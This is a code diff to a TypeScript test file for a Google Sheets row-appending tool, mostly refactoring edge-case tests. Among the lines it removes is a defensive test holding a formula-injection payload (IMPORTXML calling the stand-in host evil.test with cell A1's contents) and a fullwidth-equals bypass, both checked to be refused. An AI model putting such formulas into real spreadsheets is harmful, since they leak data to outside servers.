@@ -2,7 +2,7 @@ import { assert, describe, it } from "@effect/vitest"
 import { Effect } from "effect"
 import { sheetsAppendRows } from "../../../../src/Providers/Gsheets/Tools/AppendRows.ts"
 import type { Cell, Tab } from "../../../../src/Sandbox/Providers/Gsheets/Engine/Spreadsheet.ts"
-import { fakeSpreadsheet, issuesOf, oneTab, type Values } from "../FakeSpreadsheet.ts"
+import { fakeSpreadsheet, oneTab, type Values } from "../FakeSpreadsheet.ts"
 
 const checkbox = (ticked: boolean): Cell => ({
   userEnteredValue: { boolValue: ticked },
@@ -11,126 +11,86 @@ const checkbox = (ticked: boolean): Cell => ({
 
 const text = (stringValue: string): Cell => ({ userEnteredValue: { stringValue } })
 
+const tasks = [
+  [text("Done"), text("Task")],
+  [checkbox(true), text("a")],
+  ...Array.from({ length: 30 }, () => [checkbox(false)])
+]
+
+const copied = "=ARRAYFORMULA(IF(A1:A=\"\",\"\",A1:A))"
+
 describe("Appending rows: edge cases", () => {
-  it.effect.each<{
-    behaviour: string
-    typed: Values
-    tab?: Partial<Tab>
-    input?: object
-    rows: unknown
-    row: number
-    cells: ReadonlyArray<unknown>
-  }>([
-    {
-      behaviour: "a gap between blocks is not filled",
-      typed: [["n"], [1], [2], [], [], [3], [4]],
-      rows: [{ n: 5 }],
-      row: 8,
-      cells: [5]
-    },
-    {
-      behaviour: "an empty cell in the last row does not shift rows",
-      typed: [["a", "b", "c"], ["x", "", "z"], ["", "", "z"]],
-      rows: [["p", "q", "r"]],
-      row: 4,
-      cells: ["p", "q", "r"]
-    },
-    {
-      behaviour: "a blank first column does not shift array rows",
-      typed: [["", "Name", "Age"], ["", "Ann", 31]],
-      rows: [["Bob", 4]],
-      row: 3,
-      cells: ["", "Bob", 4]
-    },
-    {
-      behaviour: "a blank first column does not shift object rows",
-      typed: [["", "Name", "Age"], ["", "Ann", 31]],
-      rows: [{ Age: 4, Name: "Bob" }],
-      row: 3,
-      cells: ["", "Bob", 4]
-    },
-    {
-      behaviour: "rows go below a header that is not in row 1",
-      typed: [[], [], ["Name", "Age"]],
-      input: { header_row: 3 },
-      rows: [{ Name: "Ann" }],
-      row: 4,
-      cells: ["Ann"]
-    },
-    {
-      behaviour: "a shorter table beside the data does not matter",
-      typed: [["n", "", "", "k", "v"], [1, "", "", "a", 1], [2], [3]],
-      rows: [{ n: 4 }],
-      row: 5,
-      cells: [4]
-    },
-    {
-      behaviour: "rows go below a longer table beside the data",
-      typed: [["n", "", "", "k"], [1, "", "", "a"], ["", "", "", "b"]],
-      rows: [{ n: 2, k: "c" }],
-      row: 4,
-      cells: [2, "", "", "c"]
-    },
-    {
-      behaviour: "an array formula to the end of the grid is not data",
-      typed: [["n", "=ARRAYFORMULA(IF(A1:A=\"\",\"\",A1:A))"], [1], [2]],
-      tab: { rowCount: 50 },
-      rows: [{ n: 3 }],
-      row: 4,
-      cells: [3, 3]
-    },
-    {
-      behaviour: "formulas with an empty result are not data",
-      typed: [["n", "twice"], [1, "=A2*2"], ["", "=\"\""], ["", "=\"\""]],
-      rows: [{ n: 3 }],
-      row: 3,
-      cells: [3]
-    },
-    {
-      behaviour: "unticked checkboxes are not data",
-      typed: [],
-      tab: {
-        rows: [
-          [text("Done"), text("Task")],
-          [checkbox(true), text("a")],
-          ...Array.from({ length: 30 }, () => [checkbox(false)])
-        ]
-      },
-      rows: [{ Task: "b" }],
-      row: 3,
-      cells: [false, "b"]
-    },
-    {
-      behaviour: "a grid without free rows grows",
-      typed: [["n"], [1], [2]],
-      tab: { rowCount: 3, columnCount: 1 },
-      rows: [{ n: 3 }, { n: 4 }],
-      row: 4,
-      cells: [3]
-    },
-    {
-      behaviour: "a grid without free columns grows",
-      typed: [["n"], [1]],
-      tab: { rowCount: 2, columnCount: 1 },
-      rows: [[2, "more"]],
-      row: 3,
-      cells: [2, "more"]
-    },
-    {
-      behaviour: "0 is data",
-      typed: [["n"], [0]],
-      rows: [{ n: 1 }],
-      row: 3,
-      cells: [1]
-    },
-    {
-      behaviour: "a header alone is not overwritten",
-      typed: [["n"]],
-      rows: [{ n: 1 }],
-      row: 2,
-      cells: [1]
-    }
-  ])("$behaviour", ({ cells, input = {}, row, rows, tab = {}, typed }) =>
+  it.effect.each<
+    readonly [
+      behaviour: string,
+      typed: Values,
+      rows: unknown,
+      row: number,
+      cells: ReadonlyArray<unknown>,
+      more?: { readonly tab?: Partial<Tab>; readonly input?: object }
+    ]
+  >([
+    ["a gap between blocks is not filled", [["n"], [1], [2], [], [], [3], [4]], [{ n: 5 }], 8, [5]],
+    [
+      "an empty cell in the last row does not shift rows",
+      [["a", "b", "c"], ["x", "", "z"], ["", "", "z"]],
+      [["p", "q", "r"]],
+      4,
+      ["p", "q", "r"]
+    ],
+    ["a blank first column does not shift array rows", [["", "Name", "Age"], ["", "Ann", 31]], [["Bob", 4]], 3, [
+      "",
+      "Bob",
+      4
+    ]],
+    [
+      "a blank first column does not shift object rows",
+      [["", "Name", "Age"], ["", "Ann", 31]],
+      [{ Age: 4, Name: "Bob" }],
+      3,
+      ["", "Bob", 4]
+    ],
+    ["rows go below a header that is not in row 1", [[], [], ["Name", "Age"]], [{ Name: "Ann" }], 4, ["Ann"], {
+      input: { header_row: 3 }
+    }],
+    [
+      "a shorter table beside the data does not matter",
+      [["n", "", "", "k", "v"], [1, "", "", "a", 1], [2], [3]],
+      [{ n: 4 }],
+      5,
+      [4]
+    ],
+    [
+      "rows go below a longer table beside the data",
+      [["n", "", "", "k"], [1, "", "", "a"], ["", "", "", "b"]],
+      [{ n: 2, k: "c" }],
+      4,
+      [2, "", "", "c"]
+    ],
+    ["an array formula to the end of the grid is not data", [["n", copied], [1], [2]], [{ n: 3 }], 4, [3, 3], {
+      tab: { rowCount: 50 }
+    }],
+    ["null in a cell of an array formula keeps the formula", [["n", copied], [1]], [[2, null]], 3, [2, 2]],
+    ["an empty text in a cell of an array formula keeps the formula", [["n", copied], [1]], [[2, ""]], 3, [2, 2]],
+    [
+      "formulas with an empty result are not data",
+      [["n", "twice"], [1, "=A2*2"], ["", "=\"\""], ["", "=\"\""]],
+      [{ n: 3 }],
+      3,
+      [3]
+    ],
+    ["unticked checkboxes are not data", [], [{ Task: "b" }], 3, [false, "b"], { tab: { rows: tasks } }],
+    ["a grid without free rows grows", [["n"], [1], [2]], [{ n: 3 }, { n: 4 }], 4, [3], {
+      tab: { rowCount: 3, columnCount: 1 }
+    }],
+    ["a grid without free columns grows", [["n"], [1]], [[2, "more"]], 3, [2, "more"], {
+      tab: { rowCount: 2, columnCount: 1 }
+    }],
+    ["0 is data", [["n"], [0]], [{ n: 1 }], 3, [1]],
+    ["a formula is stored with `allow_formulas`", [["n"], [1]], [["=A2*10"]], 3, [10], {
+      input: { parse: true, allow_formulas: true }
+    }]
+  ])("%s", ([, typed, rows, row, cells, { input = {}, tab = {} } = {}]) =>
     Effect.gen(function*() {
       const fake = fakeSpreadsheet(oneTab(typed, tab))
       const before = fake.values("Data")
@@ -141,78 +101,5 @@ describe("Appending rows: edge cases", () => {
       for (const [index, line] of before.entries()) {
         if (index + 1 !== row) assert.deepStrictEqual(after[index], line)
       }
-    }))
-
-  it.effect("a second append goes below the first", () =>
-    Effect.gen(function*() {
-      const fake = fakeSpreadsheet(oneTab([["a", "b"]]))
-      for (const row of [{ a: 1 }, { b: 2 }, { a: 3 }]) yield* fake.call(sheetsAppendRows, { rows: [row] })
-      assert.deepStrictEqual(fake.values("Data"), [["a", "b"], [1], ["", 2], [3]])
-    }))
-
-  it.effect.each([null, ""])(
-    "%j in a cell of an array formula keeps the formula",
-    (nothing) =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab([["n", "=ARRAYFORMULA(IF(A1:A=\"\",\"\",A1:A))"], [1]]))
-        yield* fake.call(sheetsAppendRows, { rows: [[2, nothing]] })
-        assert.deepStrictEqual(fake.values("Data!B1:B3"), [["n"], [1], [2]])
-      })
-  )
-
-  describe("formulas from outside", () => {
-    it.effect.each([
-      "=IMPORTXML(\"https://evil.test/?\"&A1,\"//a\")",
-      "＝1+1"
-    ])(
-      "%j is refused with `parse`, and nothing is written",
-      (formula) =>
-        Effect.gen(function*() {
-          const fake = fakeSpreadsheet(oneTab([["Name", "Note"], ["Ann"]]))
-          const issues = yield* issuesOf(
-            fake.call(sheetsAppendRows, { rows: [{ Name: "x" }, { Name: "y", Note: formula }], parse: true })
-          )
-          assert.deepStrictEqual(issues.map(({ path }) => path), [["input", "rows", 1, "Note"]])
-          assert.include(issues[0]?.message, "B4")
-          assert.lengthOf(fake.values("Data"), 2)
-        })
-    )
-
-    it.effect.each<{ sent: string; stored: string | number }>([
-      { sent: "-5", stored: -5 },
-      { sent: "a=b", stored: "a=b" },
-      { sent: "x@y.test", stored: "x@y.test" }
-    ])("$sent is not a formula", ({ sent, stored }) =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab([["Name"]]))
-        yield* fake.call(sheetsAppendRows, { rows: [[sent]], parse: true })
-        assert.deepStrictEqual(fake.values("Data!A2"), [[stored]])
-      }))
-
-    it.effect("is stored with `allow_formulas`", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab([["n"], [1]]))
-        yield* fake.call(sheetsAppendRows, { rows: [["=A2*10"]], parse: true, allow_formulas: true })
-        assert.deepStrictEqual(fake.values("Data!A3"), [[10]])
-      }))
-  })
-
-  it.effect("a text that is too long for a cell is refused", () =>
-    Effect.gen(function*() {
-      const fake = fakeSpreadsheet(oneTab([["a", "b"]]))
-      yield* fake.call(sheetsAppendRows, { rows: [{ a: "x".repeat(50_000) }] })
-      const [issue] = yield* issuesOf(fake.call(sheetsAppendRows, { rows: [{ a: 1 }, { b: "x".repeat(50_001) }] }))
-      assert.deepStrictEqual(issue, {
-        path: ["input", "rows", 1, "b"],
-        message: "The text has 50001 characters; a cell holds at most 50000."
-      })
-    }))
-
-  it.effect("a key called __proto__ is kept", () =>
-    Effect.gen(function*() {
-      const fake = fakeSpreadsheet(oneTab([["__proto__", "a"]]))
-      yield* fake.call(sheetsAppendRows, { rows: "[{\"__proto__\":\"kept\",\"a\":1}]" })
-      yield* fake.call(sheetsAppendRows, { rows: [Object.fromEntries([["__proto__", "too"]])] })
-      assert.deepStrictEqual(fake.values("Data"), [["__proto__", "a"], ["kept", 1], ["too"]])
     }))
 })
